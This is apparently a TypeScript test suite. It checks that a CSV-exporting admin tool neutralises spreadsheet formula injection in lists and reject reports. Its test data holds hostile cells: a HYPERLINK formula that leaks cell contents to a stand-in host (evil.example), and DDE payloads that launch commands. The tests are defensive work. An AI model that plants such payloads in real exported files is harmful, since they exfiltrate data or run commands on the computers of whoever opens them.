import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { spreadsheetSafe } from '../../src/domain/text.js';
import type { CsvSource } from '../../src/io/csv.js';
import { prepareRejects } from '../../src/io/rejects.js';
import { Output, type Column } from '../../src/ui/output.js';
import type { Io } from '../../src/ui/io.js';

/**
 * SPEC 4: no CSV cell the program writes begins with `=`, `+`, `-`, `@`, tab or CR unless it is a
 * (negative) number; such a cell gets a leading `'`. The lists of ui/output.ts and the rejects
 * reports of io/csv.ts both go through domain/text.ts `spreadsheetSafe`.
 */

/** The records of a ;-separated text, read by csv-parse (not the program's reader). */
function rowsOf(text: string): string[][] {
  const rows: unknown = parse(text, { delimiter: ';' });
  return rows as string[][];
}

const DANGEROUS = /^[=+\-@\t\r]/;
const NEGATIVE_NUMBER = /^-(?:\d+(?:[.,]\d+)?|[.,]\d+)(?:[eE][+-]?\d+)?$/;

/** The cells of the issue, and their kind. */
const ATTACKS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|"/C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '=1;2',
  '-',
  '+33559272727',
];

/** Cells as a file or a user may give them: attacks, numbers, ordinary text, separators, quotes, breaks. */
const anyCell = fc.oneof(
  fc.constantFrom(...ATTACKS, '-12', '-3.5', '-3,5', '-0', '12', 'Commune de Pau', ''),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', ''), fc.string({ maxLength: 12 }))
    .map(([a, b]) => a + b),
  fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ';', '"', 'a', '1', '.', ' '),
    maxLength: 10,
  }),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
  fc.integer().map(String),
);

describe('spreadsheetSafe', () => {
  it('puts a quote before each cell of the issue', () => {
    for (const c of ATTACKS) expect(spreadsheetSafe(c)).toBe(`'${c}`);
  });

  it('leaves a negative number a number, and ordinary text as it is', () => {
    for (const c of ['-12', '-3.5', '-3,5', '-0.25', '-.5', '-1e5', '-2E-3'])
      expect(spreadsheetSafe(c)).toBe(c);
    for (const c of ['12', 'Commune de Pau', '', ' =1+1', 'a=b', "'=déjà"])
      expect(spreadsheetSafe(c)).toBe(c);
  });

  it('property: the result never begins with a dangerous character unless a number, and is the cell once the quote is dropped', () => {
    fc.assert(
      fc.property(anyCell, (c) => {
        const safe = spreadsheetSafe(c);
        expect(!DANGEROUS.test(safe) || NEGATIVE_NUMBER.test(safe)).toBe(true);
        expect(safe === c || safe === `'${c}`).toBe(true);
      }),
    );
  });
});

/** An Output in csv format writing to a buffer. */
function csvOutput() {
  const out: Buffer[] = [];
  const sink = () => {
    const s = new PassThrough();
    s.on('data', (d: Buffer) => out.push(d));
    return s;
  };
  const io = {
    stdin: Readable.from(['']),
    stdout: sink(),
    stderr: sink(),
    env: { NO_COLOR: '1' },
    cwd: '/',
    clock: { now: () => new Date('2026-03-02T10:00:00Z') },
    prompter: {} as Io['prompter'],
  } as Io;
  return {
    o: new Output({ lang: 'fr', format: 'csv', quiet: false, verbose: false, io }),
    text: () => Buffer.concat(out).toString('utf8'),
  };
}

type Row = { a: string; b: number | string; c: string[] };
const COLUMNS: Column<Row>[] = [
  { key: 'a', label: 'col.comment' },
  { key: 'b', label: 'col.rows' },
  { key: 'c', label: 'col.services' },
];

describe('CSV output of every list (ui/output.ts)', () => {
  it('the cells of the issue come out quoted; a negative count stays a number', async () => {
    const { o, text } = csvOutput();
    await o.list(
      [
        { a: ATTACKS[0]!, b: -12, c: [] },
        { a: ATTACKS[1]!, b: ATTACKS[2]!, c: ['=A1'] },
      ],
      COLUMNS,
    );
    const rows = rowsOf(text());
    expect(rows.slice(1)).toEqual([
      [`'${ATTACKS[0]}`, '-12', ''],
      [`'${ATTACKS[1]}`, `'${ATTACKS[2]}`, "'=A1"],
    ]);
  });

  it('property: no cell begins with a dangerous character unless it is a number', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.record({
            a: anyCell,
            b: fc.oneof(anyCell, fc.integer()),
            c: fc.array(anyCell, { maxLength: 3 }),
          }),
          {
            minLength: 1,
            maxLength: 8,
          },
        ),
        async (rows) => {
          const { o, text } = csvOutput();
          await o.list(rows, COLUMNS);
          const back = rowsOf(text());
          expect(back).toHaveLength(rows.length + 1);
          for (const r of back.slice(1))
            for (const cell of r)
              expect(!DANGEROUS.test(cell) || NEGATIVE_NUMBER.test(cell), cell).toBe(true);
          back.slice(1).forEach((r, i) => {
            const a = rows[i]!.a;
            expect(r[0] === a || r[0] === `'${a}`).toBe(true);
          });
        },
      ),
    );
  });

  it('a record in csv too', async () => {
    const { o, text } = csvOutput();
    await o.record({ a: '@cmd', b: 1, c: [] }, COLUMNS);
    expect(text().split('\r\n')[1]).toBe("'@cmd;1;");
  });
});

describe('rejects reports (io/csv.ts)', () => {
  let dir: string;
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'chorus-admin-neutralize-'));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  const source: CsvSource = {
    path: '/nowhere/in.csv',
    name: 'in.csv',
    size: 1,
    sha256: '',
    encoding: 'utf8',
    bom: false,
    delimiter: ';',
    newline: '\r\n',
    quotes: true,
    lines: 0,
  };

  it('property: the report echoes the input’s cells made inert; the quote is all that changes', async () => {
    let n = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(anyCell, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 6 }),
        anyCell,
        async (records, reason) => {
          const out = path.join(dir, `rejets-${n++}.csv`);
          const report = prepareRejects(out, source.path)!;
          const w = report.open(source, ['=Identifiant', 'RaisonSociale']);
          records.forEach((fields, i) => w.add({ line: i + 2, fields }, 2, [reason]));
          await report.commit();
          const back = rowsOf(fs.readFileSync(out, 'utf8'));
          expect(back[0]).toEqual(["'=Identifiant", 'RaisonSociale', 'LIGNE', 'ERREURS']);
          back.slice(1).forEach((r, i) => {
            for (const cell of r)
              expect(!DANGEROUS.test(cell) || NEGATIVE_NUMBER.test(cell), cell).toBe(true);
            records[i]!.forEach((c, k) => expect(r[k] === c || r[k] === `'${c}`).toBe(true));
            expect(r[2]).toBe(String(i + 2));
          });
        },
      ),
      { numRuns: 60 },
    );
  });
});
